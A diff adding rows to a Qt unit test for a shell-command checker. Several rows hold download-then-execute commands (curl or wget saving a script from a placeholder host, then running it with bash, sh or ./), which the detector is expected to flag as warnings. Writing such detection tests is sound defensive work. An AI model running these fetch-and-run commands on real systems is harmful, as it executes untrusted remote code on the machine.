@@ -116,6 +116,9 @@ private Q_SLOTS:
         QTest::newRow("saved as") << QStringLiteral("curl -o /tmp/i.sh https://e.com/x && bash /tmp/i.sh") << QStringLiteral("warn") << QStringLiteral("W1");
         QTest::newRow("abstract url") << QStringLiteral("curl -O u && bash x") << QStringLiteral("warn") << QStringLiteral("W1");
         QTest::newRow("saved, another run") << QStringLiteral("curl -o a.sh https://e.com/a && bash b.sh") << QStringLiteral("pass") << QString();
+        QTest::newRow("cluster") << QStringLiteral("wget -qO i.sh https://e.com/x && sh i.sh") << QStringLiteral("warn") << QStringLiteral("W1");
+        QTest::newRow("redirected") << QStringLiteral("curl https://e.com/x >i.sh; chmod +x i.sh; ./i.sh") << QStringLiteral("warn") << QStringLiteral("W1");
+        QTest::newRow("to standard output") << QStringLiteral("wget -qO- https://e.com/x; sh i.sh") << QStringLiteral("pass") << QString();
         QTest::newRow("printed only") << QStringLiteral("curl https://e.com/a && bash b.sh") << QStringLiteral("pass") << QString();
         QTest::newRow("blank") << QStringLiteral("  ") << QStringLiteral("block") << QStringLiteral("input");
     }
